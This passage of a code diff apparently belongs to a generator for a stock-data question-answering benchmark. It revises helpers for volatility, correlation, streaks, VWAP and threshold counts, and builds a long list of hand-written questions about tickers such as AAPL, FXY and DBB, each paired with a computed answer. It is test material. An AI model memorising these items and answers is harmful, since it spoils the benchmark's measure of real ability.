+        check(j not in ties, f"{s} MA tie near cross {BARS[s][pick][0]}")
+    return [[BARS[s][pick][0]]]
 
 
-def g_xcount(d, m, op, thr, expect=None):
+def g_count(s, d1, d2, pred, uses_return=False, edge=None):
+    idx = window(s, d1, d2)
+    if edge:  # (field, threshold): no value may sit on the threshold, so strict and non-strict agree
+        check(all(val(s, i, edge[0]) != edge[1] for i in idx), f"{s} count {d1}..{d2} has a value on the threshold")
+    n = sum(1 for i in idx if pred(s, i))
+    if uses_return:
+        check(not pred(s, idx[0]), f"{s} count {d1}..{d2} depends on the first session's return")
+    return [[n]]
+
+
+def g_xcount(d, pred, edge=None):
     syms = universe_on(d)
-    if expect is not None:
-        check(len(syms) == expect, 'universe on %s has %d symbols' % (d, len(syms)))
-    n = 0
-    for s in syms:
-        x = measure(s, d, m)
-        check(far_from(x, thr), '%s %r too close to the threshold' % (s, x))
-        n += (x > thr) if op == '>' else (x < thr)
-    return first(n)
-
-
-def g_xcount_over(d1, d2, expect=None):
-    syms = universe_over(d1, d2)
-    if expect is not None:
-        check(len(syms) == expect, 'universe over %s..%s has %d symbols' % (d1, d2, len(syms)))
-    n = 0
-    for s in syms:
-        x = exact_change(s, d1, d2)
-        check(abs(x) > 0.001, '%s change %r too close to zero' % (s, x))
-        n += x > 0
-    return first(n)
+    if edge:
+        check(all(val(s, INDEX[s][d], edge[0]) != edge[1] for s in syms), f"cross count {d} has a value on the threshold")
+    check(len(syms) > 1, f"no universe on {d}")
+    return [[sum(1 for s in syms if pred(s, INDEX[s][d]))]]
 
 
 def g_vol(s, d1, d2):
-    a = sstd([r for _, r in window_returns(s, d1, d2, True)])
-    b = sstd([r for _, r in window_returns(s, d1, d2, False)])
-    check(abs(a - b) < 0.00005, 'volatility depends on the first session: %r %r' % (a, b))
+    a = statistics.stdev([r for _, r in rets_in(s, d1, d2)])
+    b = statistics.stdev([r for _, r in rets_in(s, d1, d2, False)])
+    check(close_enough(b, a), f"{s} volatility {d1}..{d2} depends on the first return: {a} {b}")
     return a
 
 
-def corr(s1, s2, d1, d2, include_first=True):
-    r1 = dict(window_returns(s1, d1, d2, include_first))
-    r2 = dict(window_returns(s2, d1, d2, include_first))
-    common = sorted(set(r1) & set(r2))
-    check(len(common) > 20, 'too few common dates')
-    return pearson([r1[d] for d in common], [r2[d] for d in common])
+def pearson(xs, ys):
+    mx, my = statistics.fmean(xs), statistics.fmean(ys)
+    sxy = math.fsum((x - mx) * (y - my) for x, y in zip(xs, ys))
+    sxx = math.fsum((x - mx) ** 2 for x in xs)
+    syy = math.fsum((y - my) ** 2 for y in ys)
+    return sxy / math.sqrt(sxx * syy)
 
 
-def g_corr(s1, s2, d1, d2):
-    a, b = corr(s1, s2, d1, d2, True), corr(s1, s2, d1, d2, False)
-    check(abs(a - b) < 0.5 * max(0.001 * abs(a), 0.0001), 'correlation depends on the first session: %r %r' % (a, b))
-    return first(a)
+def g_corr(a, b, d1, d2):
+    res = []
+    for inc in (True, False):
+        ra = dict(rets_in(a, d1, d2, inc))
+        rb = dict(rets_in(b, d1, d2, inc))
+        common = sorted(set(ra) & set(rb))
+        check(len(common) > 10, f"corr {a} {b} too few common dates")
+        res.append(pearson([ra[d] for d in common], [rb[d] for d in common]))
+    check(close_enough(res[1], res[0]), f"corr {a} {b} {d1}..{d2} depends on the first return: {res}")
+    return res[0]
+
+
+def runs(s, idx, up):
+    out = []  # (len, first, last)
+    cur = []
+    for i in idx:
+        r = ret(s, i)
+        if (r > 0) if up else (r < 0):
+            cur.append(i)
+        else:
+            if cur:
+                out.append(cur)
+            cur = []
+    if cur:
+        out.append(cur)
+    return out
 
 
 def g_streak(s, d1, d2, up):
-    n, a, b = longest_streak(s, d1, d2, up)
-    check(n >= 2, 'streak of one')
-    return first(n, a, b)
+    idx = window(s, d1, d2)
+    rs = sorted(runs(s, idx, up), key=len, reverse=True)
+    check(len(rs) > 1 and len(rs[0]) > len(rs[1]), f"{s} streak {d1}..{d2} not unique")
+    best = rs[0]
+    check(best[0] != idx[0] and best[-1] != idx[-1], f"{s} streak {d1}..{d2} touches the window edge")
+    return [[len(best), BARS[s][best[0]][0], BARS[s][best[-1]][0]]]
+
+
+def g_current_streak(s, up):
+    b = BARS[s]
+    i = len(b) - 1
+    check((ret(s, i) > 0) if up else (ret(s, i) < 0), f"{s} no current streak")
+    j = i
+    while j - 1 > 0 and ((ret(s, j - 1) > 0) if up else (ret(s, j - 1) < 0)):
+        j -= 1
+    return [[i - j + 1, b[j][0], b[i][0]]]
+
+
+def minutes_between(s, d, t1, t2):
+    return [m for m in MINUTES[s] if m[1] == d and f"{d} {t1}" <= m[0] <= f"{d} {t2}"]
+
+
+def vwap(ms):
+    v = math.fsum(m[6] for m in ms)
+    check(v > 0, "vwap over no volume")
+    return math.fsum(m[5] * m[6] for m in ms) / (v or 1)
 
 
 def g_vwap_day(s, d):
-    allm = minutes(s, d)
-    reg = minutes(s, d, '09:30', '15:59')
-    a, b = vwap_of(allm), vwap_of(reg)
-    check(abs(a / b - 1) < 0.001, 'regular-session VWAP disagrees on %s %s' % (s, d))
-    return first(a)
+    allm = [m for m in MINUTES[s] if m[1] == d]
+    check(len(allm) > 0, f"{s} no minutes on {d}")
+    a = vwap(allm)
+    b = vwap(minutes_between(s, d, "09:30", "15:59"))
+    check(abs(a / b - 1) < 0.001, f"{s} {d} all-minute and regular VWAP differ: {a} {b}")
+    return [[d, a]]
 
 
-def g_vwap_window(s, days, t1='00:00', t2='23:59'):
-    ms = []
-    for d in days:
-        bar(s, d)
-        ms += minutes(s, d, t1, t2)
-    return first(vwap_of(ms))
+def g_vwap_window(s, d, t1, t2, t2_alt=None):
+    ms = minutes_between(s, d, t1, t2)
+    check(len(ms) > 0, f"{s} no minutes {d} {t1}-{t2}")
+    a = vwap(ms)
+    if t2_alt:
+        b = vwap(minutes_between(s, d, t1, t2_alt))
+        check(close_enough(b, a), f"{s} {d} window VWAP edge matters: {a} {b}")
+    return [[a]]
 
 
-def g_minute_rows(s, d, t1, t2, fields):
-    ms = minutes(s, d, t1, t2)
-    check(2 <= len(ms) <= 15, 'minute list of %d rows' % len(ms))
-    col = {'open': 2, 'high': 3, 'low': 4, 'close': 5, 'volume': 6}
-    return as_set([[m[0] + ' ' + m[1]] + [m[col[f]] for f in fields] for m in ms])
+def g_bars(s, d, t1, t2, fields):
+    ms = minutes_between(s, d, t1, t2)
+    check(len(ms) > 0, f"{s} no minutes {d} {t1}-{t2}")
+    k = {"open": 2, "high": 3, "low": 4, "close": 5, "volume": 6}
+    return [[m[0]] + [m[k[f]] for f in fields] for m in ms]
 
 
 def g_candle(s, d1, d2):
-    w = window(s, d1, d2)
-    return first(w[0][1], max(b[2] for b in w), min(b[3] for b in w), w[-1][4], sum(b[5] for b in w))
+    idx = window(s, d1, d2)
+    b = BARS[s]
+    return [[b[idx[0]][1], max(b[i][2] for i in idx), min(b[i][3] for i in idx), b[idx[-1]][4],
+             math.fsum(b[i][5] for i in idx)]]
 
 
 def g_dist(s, d):
-    i = IDX[s][d]
-    peak = max(b[4] for b in BARS[s][:i + 1])
-    v = BARS[s][i][4] / peak - 1
-    check(v < -0.001, 'at or near the high')
-    return first(d, v)
+    i = at(s, d)
+    mx = max(b[4] for b in BARS[s][:i + 1])
+    return [[d, BARS[s][i][4] / mx - 1]]
 
 
-def g_dates_of(s):
-    return first(BARS[s][0][0], BARS[s][-1][0])
+# ================================================================ questions
+def build():
+    A = add
+    # ---------------- latest-rows
+    A("latest-rows", "last 5 closes for FXY", g_latest("FXY", 5, ["close"]), "set", True)
+    A("latest-rows", "Show me DBB's open, high, low and close for the three most recent sessions.",
+      g_latest("DBB", 3, ["open", "high", "low", "close"]), "set", True)
+    A("latest-rows", "what were INDA's closing prices over its final 4 trading days in the data?",
+      g_latest("INDA", 4, ["close"]), "set", True)
+    A("latest-rows", "most recent 2 days of fxy volume pls", g_latest("FXY", 2, ["volume"]), "set", True)
+    A("latest-rows", "Give me IBM's last three sessions up to Nov 10, 2017 - close and volume.",
+      g_latest("IBM", 3, ["close", "volume"]), "set", True)
+    A("latest-rows", "tsla closes for the final 4 trading days ending 2017-11-10",
+      g_latest("TSLA", 4, ["close"]), "set", True)
+    A("latest-rows", "What were Coca-Cola's last five closing prices through November 10th, 2017?",
+      g_latest("KO", 5, ["close"]), "set", True)
+    A("latest-rows", "Nvidia high and low for each of the last 3 sessions as of 11/10/2017",
+      g_latest("NVDA", 3, ["high", "low"]), "set", True)
+
+    # ---------------- day-value
+    A("day-value", "What did Apple close at on March 3rd, 2015?", g_day("AAPL", "2015-03-03", "close"))
+    A("day-value", "NFLX volume 8/7/2017", g_day("NFLX", "2017-08-07", "volume"))
+    A("day-value", "msft opening price on 24/06/2016", g_day("MSFT", "2016-06-24", "open"))
+    A("day-value", "How high did Amazon trade on October 24, 2014?", g_day("AMZN", "2014-10-24", "high"))
+    A("day-value", "what was the intraday range of JPMorgan on Jan 20 2016", g_day("JPM", "2016-01-20", "range"))
+    A("day-value", "googl low on 2013-07-19?", g_day("GOOGL", "2013-07-19", "low"))
+    A("day-value", "What did FXY close at yesterday?", g_day("FXY", "2025-07-07", "close"))
+    A("day-value", "DBB daily volume on 2024-11-06", g_day("DBB", "2024-11-06", "volume"))
+
+    # ---------------- date-range-rows
+    A("date-range-rows", "KO open and close 2014-02-03 through 2014-02-07",
+      g_rows("KO", "2014-02-03", "2014-02-07", ["open", "close"]), "set", True)
+    A("date-range-rows", "Show Tesla's daily closes from June 1 to June 7, 2016, both days included.",
+      g_rows("TSLA", "2016-06-01", "2016-06-07", ["close"]), "set", True)
+    w = week_of("2015-08-24")
+    A("date-range-rows", "intel volume each day the week of 2015-08-24",
+      g_rows("INTC", w[0], w[1], ["volume"]), "set", True)
+    A("date-range-rows", "AMD highs and lows, 12/1/2016 through 12/6/2016",
+      g_rows("AMD", "2016-12-01", "2016-12-06", ["high", "low"]), "set", True)
+    A("date-range-rows", "Can you list Facebook's closing prices from 2012-05-21 to 2012-05-25 inclusive?",
+      g_rows("FB", "2012-05-21", "2012-05-25", ["close"]), "set", True)
+    A("date-range-rows", "DBB daily closes, June 2 through June 6 2025",
+      g_rows("DBB", "2025-06-02", "2025-06-06", ["close"]), "set", True)
+    w = week_of("2025-04-09")
+    A("date-range-rows", "I need INDA's open and close for every day in the week of April 9, 2025.",
+      g_rows("INDA", w[0], w[1], ["open", "close"]), "set", True)
+    A("date-range-rows", "fxy daily high + low from 2024-08-01 to 2024-08-07 inclusive",
+      g_rows("FXY", "2024-08-01", "2024-08-07", ["high", "low"]), "set", True)
+
+    # ---------------- window-aggregate
+    A("window-aggregate", "average closing price of IBM in 2013", [[g_agg("IBM", "2013-01-01", "2013-12-31", "avg", "close")]])
+    A("window-aggregate", "Total shares of NVDA traded during Q3 2016?", [[g_agg("NVDA", "2016-07-01", "2016-09-30", "sum", "volume")]])
+    A("window-aggregate", "What was the highest price Microsoft reached in Q1 2017?",
+      [[g_agg("MSFT", "2017-01-01", "2017-03-31", "max", "high")]])
+    A("window-aggregate", "lowest low for JPM during the first half of 2016", [[g_agg("JPM", "2016-01-01", "2016-06-30", "min", "low")]])
+    A("window-aggregate", "avg daily volume for amzn in sept 2015", [[g_agg("AMZN", "2015-09-01", "2015-09-30", "avg", "volume")]])
+    A("window-aggregate", "Mean close of Coca-Cola from 2010-01-04 through 2010-12-31.", [[g_agg("KO", "2010-01-04", "2010-12-31", "avg", "close")]])
+    A("window-aggregate", "What was DBB's average daily volume last month?", [[g_agg("DBB", "2025-06-01", "2025-06-30", "avg", "volume")]])
+    A("window-aggregate", "highest price FXY has traded at this year?", [[g_agg("FXY", "2025-01-01", TODAY, "max", "high")]])
+
+    # ---------------- extreme-day
+    A("extreme-day", "On which day in 2015 did AMZN see its heaviest trading volume?", g_extreme("AMZN", "2015-01-01", "2015-12-31", "volume", True))
+    A("extreme-day", "When did Apple post its lowest close of 2016?", g_extreme("AAPL", "2016-01-01", "2016-12-31", "close", False))
+    A("extreme-day", "Which session in Q4 2014 had the widest high-low range for NFLX?", g_extreme("NFLX", "2014-10-01", "2014-12-31", "range", True))
+    A("extreme-day", "date of googl's highest close in 2017", g_extreme("GOOGL", "2017-01-01", "2017-12-31", "close", True))
+    A("extreme-day", "lowest-volume day for KO in March 2012?", g_extreme("KO", "2012-03-01", "2012-03-31", "volume", False))
+    A("extreme-day", "Which day this year had the biggest volume in DBB?", g_extreme("DBB", "2025-01-01", TODAY, "volume", True))
+    A("extreme-day", "When did INDA make its highest close in Q2 2025?", g_extreme("INDA", "2025-04-01", "2025-06-30", "close", True))
+    A("extreme-day", "On what date in 2024 did FXY hit its lowest low", g_extreme("FXY", "2024-01-01", "2024-12-31", "low", False))
+
+    # ---------------- 52-week
+    A("52-week", "52-week high for MSFT as of 2016-09-30", g_52("MSFT", "2016-09-30", "high"))
+    A("52-week", "What was Tesla's 52 week low on 12/30/2016?", g_52("TSLA", "2016-12-30", "low"))
+    A("52-week", "52wk range of INTC as of June 15, 2015", g_52("INTC", "2015-06-15", "range"))
+    A("52-week", "JPMorgan's fifty-two week high on 2017-11-10, please", g_52("JPM", "2017-11-10", "high"))
+    A("52-week", "nflx 52-week low as of 2012-12-31", g_52("NFLX", "2012-12-31", "low"))
+    A("52-week", "What's AAPL's 52-week trading range as of March 31st, 2014?", g_52("AAPL", "2014-03-31", "range"))
+    A("52-week", "FXY 52-week low as of today", g_52("FXY", TODAY, "low"))
+    A("52-week", "what was DBB's 52-week high on 2025-04-30", g_52("DBB", "2025-04-30", "high"))
+
+    # ---------------- change-between
+    A("change-between", "What percentage did NVDA gain from the 2015-12-31 close to the 2016-12-30 close?", [[g_change("NVDA", "2015-12-31", "2016-12-30")]])
+    A("change-between", "% change in AMD between the 7/1/2016 close and the 9/30/2016 close", [[g_change("AMD", "2016-07-01", "2016-09-30")]])
+    A("change-between", "What was the percent change in Amazon's share price from the close on March 3rd, 2014 to the close on March 3rd, 2015?",
+      [[g_change("AMZN", "2014-03-03", "2015-03-03")]])
+    A("change-between", "ibm % change from sat 2014-03-01 to sat 2014-05-31", [[g_change("IBM", "2014-03-01", "2014-05-31")]])
+    A("change-between", "Tesla return from the close on 2013-05-08 to the close on 2013-05-10", [[g_change("TSLA", "2013-05-08", "2013-05-10")]])
+    A("change-between", "What's FXY's percentage change since the 2024 year-end close?", [[g_change("FXY", "2024-12-31", TODAY)]])
+    A("change-between", "INDA: % change from the March 31 2025 close to the May 30 2025 close", [[g_change("INDA", "2025-03-31", "2025-05-30")]])
+    A("change-between", "percent change in DBB from the close of 2025-03-31 to the close of 2025-06-30", [[g_change("DBB", "2025-03-31", "2025-06-30")]])
+
+    # ---------------- daily-return-or-gap
+    A("daily-return-or-gap", "What was MSFT's daily return on 2016-06-24?", g_retday("MSFT", "2016-06-24", "return"))
+    A("daily-return-or-gap", "netflix gap at the open on 2016-07-19", g_retday("NFLX", "2016-07-19", "gap"))
+    A("daily-return-or-gap", "What was JPM's close-to-close % move on 11/9/2016?", g_retday("JPM", "2016-11-09", "return"))
+    A("daily-return-or-gap", "Apple's opening gap on January 28, 2015?", g_retday("AAPL", "2015-01-28", "gap"))
+    A("daily-return-or-gap", "intel daily % chg 2014-01-17", g_retday("INTC", "2014-01-17", "return"))
+    A("daily-return-or-gap", "What was Facebook's return on July 27th 2017?", g_retday("FB", "2017-07-27", "return"))
+    A("daily-return-or-gap", "FXY daily return on 2024-08-05", g_retday("FXY", "2024-08-05", "return"))
+    A("daily-return-or-gap", "what was INDA's gap at the open on 7 April 2025", g_retday("INDA", "2025-04-07", "gap"))
+    A("daily-return-or-gap", "FXY return today?", g_retday("FXY", TODAY, "return"))
+
+    # ---------------- biggest-move-day
+    A("biggest-move-day", "TSLA's worst single-day drop in 2016?", g_move("TSLA", "2016-01-01", "2016-12-31", "return", False))
+    A("biggest-move-day", "Biggest one-day gain for AMD in 2016", g_move("AMD", "2016-01-01", "2016-12-31", "return", True))
+    A("biggest-move-day", "In 2015, on which day did Netflix gap up the most?", g_move("NFLX", "2015-01-01", "2015-12-31", "gap", True))
+    A("biggest-move-day", "largest daily percentage decline for KO during 2008", g_move("KO", "2008-01-01", "2008-12-31", "return", False))
+    A("biggest-move-day", "Which day between July 1 and Nov 10, 2017 was Nvidia's best daily gain?", g_move("NVDA", "2017-07-01", "2017-11-10", "return", True))
+    A("biggest-move-day", "fxy biggest daily gain in 2024", g_move("FXY", "2024-01-01", "2024-12-31", "return", True))
+    A("biggest-move-day", "What was INDA's worst day in April 2025, in terms of daily return?", g_move("INDA", "2025-04-01", "2025-04-30", "return", False))
+    A("biggest-move-day", "DBB's largest gap down so far this year", g_move("DBB", "2025-01-01", TODAY, "gap", False))
+
+    # ---------------- cross-sectional-ranking
+    A("cross-sectional-ranking", "Which 3 stocks traded the most shares on 2016-06-24?", g_rank("2016-06-24", "volume", 3, True), "ordered", True)
+    A("cross-sectional-ranking", "top 5 tickers by daily return on 2016-11-09", g_rank("2016-11-09", "return", 5, True), "ordered", True)
+    A("cross-sectional-ranking", "Which stock had the highest closing price on 2017-11-10?", g_rank("2017-11-10", "close", 1, True), "first", False)
+    A("cross-sectional-ranking", "Rank the tickers by high-minus-low range on Aug 24 2015 and give me the top 4.", g_rank("2015-08-24", "range", 4, True), "ordered", True)
+    A("cross-sectional-ranking", "the 3 worst performers on 2015-08-24 (daily return)", g_rank("2015-08-24", "return", 3, False), "ordered", True)
+    A("cross-sectional-ranking", "which two names gapped down the most on 24/06/2016?", g_rank("2016-06-24", "gap", 2, False), "ordered", True)
+    A("cross-sectional-ranking", "Which stock had the lowest volume on 2014-03-14?", g_rank("2014-03-14", "volume", 1, False), "first", False)
+    A("cross-sectional-ranking", "Rank the ETFs by their daily return on 2025-04-09, best first.", g_rank("2025-04-09", "return", 3, True), "ordered", True)
+    A("cross-sectional-ranking", "Which ETF had the widest intraday range on 2025-04-07?", g_rank("2025-04-07", "range", 1, True), "first", False)
+
+    # ---------------- gainers-losers
+    A("gainers-losers", "Top 3 gainers from the 2016-12-30 close to the 2017-06-30 close", g_gainers("2016-12-30", "2017-06-30", 3, True), "ordered", True)
+    A("gainers-losers", "biggest 2 losers between the 2015-06-30 close and the 2015-12-31 close", g_gainers("2015-06-30", "2015-12-31", 2, False), "ordered", True)
+    A("gainers-losers", "Which three stocks rose the most on October 27, 2017?", g_rank("2017-10-27", "return", 3, True), "ordered", True)
+    A("gainers-losers", "worst 3 performers from close 2013-12-31 to close 2014-12-31", g_gainers("2013-12-31", "2014-12-31", 3, False), "ordered", True)
+    A("gainers-losers", "Which stock performed best from the close of 2011-12-30 to the close of 2012-12-31?", g_gainers("2011-12-30", "2012-12-31", 1, True), "first", False)
+    A("gainers-losers", "which 4 tickers fell the most on 2016-06-24", g_rank("2016-06-24", "return", 4, False), "ordered", True)
+    A("gainers-losers", "Rank the three ETFs from best to worst performance between the 2025-02-28 close and the 2025-05-30 close.",
+      g_gainers("2025-02-28", "2025-05-30", 3, True), "ordered", True)
+    A("gainers-losers", "which ETF lost the most from the 4/2/2025 close to the 4/8/2025 close?", g_gainers("2025-04-02", "2025-04-08", 1, False), "first", False)
+
+    # ---------------- named-comparison
+    A("named-comparison", "Did AAPL or MSFT gain more from the 2015-12-31 close to the 2016-12-30 close?",
+      g_which([(s, g_change(s, "2015-12-31", "2016-12-30")) for s in ("AAPL", "MSFT")], True), "ordered", True)
+    A("named-comparison", "compare KO and JPM daily returns on 2016-11-09",
+      [[s, ret(s, at(s, "2016-11-09"))] for s in ("KO", "JPM")], "set", True)
+    A("named-comparison", "Which was more volatile in 2016, AMD or NVDA? (std dev of daily returns)",
+      g_which([(s, g_vol(s, "2016-01-01", "2016-12-31")) for s in ("AMD", "NVDA")], True), "ordered", True)
+    A("named-comparison", "intc vs amd average daily volume q1 2017",
+      [[s, g_agg(s, "2017-01-01", "2017-03-31", "avg", "volume")] for s in ("INTC", "AMD")], "set", True)
+    A("named-comparison", "Who traded more shares on 2014-10-15, Apple or Microsoft?",
+      g_which([(s, val(s, at(s, "2014-10-15"), "volume")) for s in ("AAPL", "MSFT")], True), "ordered", True)
+    A("named-comparison", "Which fell more on 2025-04-04, DBB or INDA?",
+      g_which([(s, ret(s, at(s, "2025-04-04"))) for s in ("DBB", "INDA")], False), "ordered", True)
+    A("named-comparison", "FXY vs DBB: percent change from the 2025-03-31 close to the 2025-06-30 close",
+      [[s, g_change(s, "2025-03-31", "2025-06-30")] for s in ("FXY", "DBB")], "set", True)
+    A("named-comparison", "which had the higher average daily volume last month, FXY or DBB?",
+      g_which([(s, g_agg(s, "2025-06-01", "2025-06-30", "avg", "volume")) for s in ("FXY", "DBB")], True), "ordered", True)
+
+    # ---------------- grouped-by-period
+    A("grouped-by-period", "Month-end closes of KO for each month of H1 2015", g_grouped("KO", "month", "2015-01-01", "2015-06-30", "last_close"), "ordered", True)
+    A("grouped-by-period", "yearly high of AMZN for 2012, 2013 and 2014", g_grouped("AMZN", "year", "2012-01-01", "2014-12-31", "max_high"), "ordered", True)
+    A("grouped-by-period", "Total Netflix volume by quarter in 2016?", g_grouped("NFLX", "quarter", "2016-01-01", "2016-12-31", "sum_volume"), "ordered", True)
+    A("grouped-by-period", "msft average close per month, Jan-Mar 2017", g_grouped("MSFT", "month", "2017-01-01", "2017-03-31", "avg_close"), "ordered", True)
+    A("grouped-by-period", "IBM weekly closing prices for the four weeks from Monday 2017-10-02 to Friday 2017-10-27",
+      g_grouped("IBM", "week", "2017-10-02", "2017-10-27", "last_close"), "ordered", True)
+    A("grouped-by-period", "What was Tesla's year-end close for each year from 2012 to 2016?", g_grouped("TSLA", "year", "2012-01-01", "2016-12-31", "last_close"), "ordered", True)
+    A("grouped-by-period", "DBB month-end close for each month January through June 2025", g_grouped("DBB", "month", "2025-01-01", "2025-06-30", "last_close"), "ordered", True)
+    A("grouped-by-period", "fxy total volume per quarter in 2024", g_grouped("FXY", "quarter", "2024-01-01", "2024-12-31", "sum_volume"), "ordered", True)
+
+    # ---------------- period-over-period
+    A("period-over-period", "How did AAPL's average close in Q2 2016 compare with Q1 2016?", g_pop("AAPL", ("2016-04-01", "2016-06-30"), ("2016-01-01", "2016-03-31"), "close"))
+    A("period-over-period", "JPM avg daily volume Dec 2016 vs Nov 2016", g_pop("JPM", ("2016-12-01", "2016-12-31"), ("2016-11-01", "2016-11-30"), "volume"))
+    A("period-over-period", "Average daily volume of Facebook in 2016 versus 2015?", g_pop("FB", ("2016-01-01", "2016-12-31"), ("2015-01-01", "2015-12-31"), "volume"))
+    A("period-over-period", "googl mean closing price H2 2015 vs H1 2015", g_pop("GOOGL", ("2015-07-01", "2015-12-31"), ("2015-01-01", "2015-06-30"), "close"))
+    A("period-over-period", "Compare Coca-Cola's average daily volume in March 2009 with February 2009 - what was the % change?",
+      g_pop("KO", ("2009-03-01", "2009-03-31"), ("2009-02-01", "2009-02-28"), "volume"))
+    A("period-over-period", "DBB average daily volume last month versus the month before", g_pop("DBB", ("2025-06-01", "2025-06-30"), ("2025-05-01", "2025-05-31"), "volume"))
+    A("period-over-period", "INDA avg close May 2025 vs April 2025", g_pop("INDA", ("2025-05-01", "2025-05-31"), ("2025-04-01", "2025-04-30"), "close"))
+    A("period-over-period", "How does FXY's average daily volume this year compare to its 2024 average?", g_pop("FXY", ("2025-01-01", TODAY), ("2024-01-01", "2024-12-31"), "volume"))
+
+    # ---------------- moving-average (5 values, 5 crossovers)
+    A("moving-average", "50-day moving average of AAPL on 2016-06-30", g_ma("AAPL", "2016-06-30", 50))
+    A("moving-average", "What was Microsoft's 200-day SMA as of Nov 10 2017?", g_ma("MSFT", "2017-11-10", 200))
+    A("moving-average", "20 day MA for NFLX on 9/15/2015", g_ma("NFLX", "2015-09-15", 20))
+    A("moving-average", "what's FXY's 50-day moving average today", g_ma("FXY", TODAY, 50))
+    A("moving-average", "DBB 10-day average close as of 2025-04-30", g_ma("DBB", "2025-04-30", 10))
+    A("moving-average", "When was INTC's most recent golden cross before 2016-01-01?", g_cross("INTC", 50, 200, True, "before", "2016-01-01"))
+    A("moving-average", "first death cross for KO in 2008 - what date?", g_cross("KO", 50, 200, False, "first_in", "2008-01-01", "2008-12-31"))
+    A("moving-average", "When did AMD's close first cross above its 50-day moving average in 2016?", g_cross("AMD", "close", 50, True, "first_in", "2016-01-01", "2016-12-31"))
+    A("moving-average", "When did DBB's 50-day MA last cross below its 200-day MA before July 1, 2025?", g_cross("DBB", 50, 200, False, "before", "2025-07-01"))
+    A("moving-average", "Date of Microsoft's first golden cross after the start of 2016?", g_cross("MSFT", 50, 200, True, "first_in", "2016-01-01", "2017-11-10"))
+
+    # ---------------- threshold-count
+    A("threshold-count", "How many days in 2015 did NFLX close above $100?",
+      g_count("NFLX", "2015-01-01", "2015-12-31", lambda s, i: BARS[s][i][4] > 100, edge=("close", 100)))
+    A("threshold-count", "number of sessions TSLA fell more than 5% in 2014",
+      g_count("TSLA", "2014-01-01", "2014-12-31", lambda s, i: ret(s, i) < -0.05, True))
+    A("threshold-count", "How many trading days did Apple's volume exceed 100 million shares in 2014?",
+      g_count("AAPL", "2014-01-01", "2014-12-31", lambda s, i: BARS[s][i][5] > 100e6, edge=("volume", 100e6)))
+    A("threshold-count", "count of days AMZN moved more than 3% either way in Q2 2016",
+      g_count("AMZN", "2016-04-01", "2016-06-30", lambda s, i: abs(ret(s, i)) > 0.03, True))
+    A("threshold-count", "In 2017, how many times did FB close below 120?",
+      g_count("FB", "2017-01-01", "2017-12-31", lambda s, i: BARS[s][i][4] < 120, edge=("close", 120)))
+    A("threshold-count", "how many up days did IBM have in october 2016",
+      g_count("IBM", "2016-10-01", "2016-10-31", lambda s, i: ret(s, i) > 0, True))
+    A("threshold-count", "How many days this year has FXY closed above 60?",
+      g_count("FXY", "2025-01-01", TODAY, lambda s, i: BARS[s][i][4] > 60, edge=("close", 60)))
+    A("threshold-count", "How many sessions between April 1 and June 24, 2025 (inclusive) did INDA drop by more than 1.5%?",
+      g_count("INDA", "2025-04-01", "2025-06-24", lambda s, i: ret(s, i) < -0.015, True))
+
+    # ---------------- cross-stock-count
+    A("cross-stock-count", "How many of the stocks closed higher on 2016-11-09?", g_xcount("2016-11-09", lambda s, i: ret(s, i) > 0))
+    A("cross-stock-count", "On 8/24/2015, how many tickers were down more than 3%?", g_xcount("2015-08-24", lambda s, i: ret(s, i) < -0.03))
+    A("cross-stock-count", "how many stocks traded over 20 million shares on 2017-06-09", g_xcount("2017-06-09", lambda s, i: BARS[s][i][5] > 20e6, ("volume", 20e6)))
+    A("cross-stock-count", "Number of names that gapped up on June 28, 2016?", g_xcount("2016-06-28", lambda s, i: gap(s, i) > 0))
+    A("cross-stock-count", "How many of the tickers closed above $100 on 2017-11-10?", g_xcount("2017-11-10", lambda s, i: BARS[s][i][4] > 100, ("close", 100)))
+    A("cross-stock-count", "how many stocks had a down day on 2011-08-08", g_xcount("2011-08-08", lambda s, i: ret(s, i) < 0))
+    A("cross-stock-count", "How many of the ETFs finished up on 2025-04-09?", g_xcount("2025-04-09", lambda s, i: ret(s, i) > 0))
+    A("cross-stock-count", "on 2024-08-05 how many ETFs fell?", g_xcount("2024-08-05", lambda s, i: ret(s, i) < 0))
+
+    vol_corr_streak(A)
+    minute_candle_dist_cov(A)
+    refusals()
 
 
-def g_syms(pred):
-    syms = [s for s in ALL_SYMS if pred(s)]
-    check(len(syms) >= 1, 'empty symbol list')
-    return as_set([[s] for s in syms])
+def vol_corr_streak(A):
+    # ---------------- volatility
+    for s, d1, d2, text in VOLS:
+        A("volatility", text, [[g_vol(s, d1, d2)]])
+    # ---------------- correlation
+    for a, b, d1, d2, text in CORRS:
+        A("correlation", text, [[g_corr(a, b, d1, d2)]])
+    # ---------------- streak
+    for s, d1, d2, up, text in STREAKS:
+        A("streak", text, g_streak(s, d1, d2, up))
+    A("streak", "How many sessions in a row has FXY closed lower, as of today?", g_current_streak("FXY", False))
 
 
-# ---------------------------------------------------------------- the questions (written by hand)
-
-QUESTIONS = []
 
 
-def A(kind, text, fn):
-    QUESTIONS.append((kind, text, fn))
+VOLS = [
+    ("AAPL", "2015-01-01", "2015-12-31", "How volatile was Apple in 2015? Std dev of daily returns please."),
+    ("KO", "2015-07-01", "2015-09-30", "coke daily return volatility Q3 2015"),
+    ("GOOGL", "2013-07-01", "2013-12-31", "What was the standard deviation of GOOGL's daily returns over the second half of 2013?"),
+    ("JPM", "2011-07-01", "2011-09-30", "jpm volatility jul-sep 2011 (daily, not annualized)"),
+    ("TSLA", "2015-01-01", "2015-06-30", "Tesla's daily-return volatility for H1 2015?"),
+    ("FXY", "2024-07-01", "2024-09-30", "FXY realized vol in Q3 2024 - std dev of daily returns"),
+    ("DBB", "2025-04-01", "2025-06-30", "How volatile was DBB last quarter?"),
+    ("INDA", "2025-03-01", "2025-05-31", "standard deviation of INDA daily returns, March through May 2025"),
+]
+CORRS = [
+    ("AAPL", "MSFT", "2015-07-01", "2015-12-31", "Correlation of daily returns between Apple and Microsoft in H2 2015?"),
+    ("JPM", "KO", "2015-01-01", "2015-12-31", "jpm/ko return correlation for 2015"),
+    ("GOOGL", "AMZN", "2014-01-01", "2014-12-31", "How correlated were Google and Amazon's daily returns during 2014?"),
+    ("INTC", "IBM", "2012-04-01", "2012-06-30", "What's the correlation between INTC and IBM daily returns in the second quarter of 2012?"),
+    ("FB", "NFLX", "2015-01-01", "2015-12-31", "corr of facebook & netflix daily returns, calendar 2015"),
+    ("FXY", "DBB", "2024-04-01", "2024-06-30", "FXY vs DBB daily return correlation, Q2 2024"),
+    ("FXY", "DBB", "2025-04-01", "2025-04-30", "How did FXY's daily returns correlate with DBB's in April 2025?"),
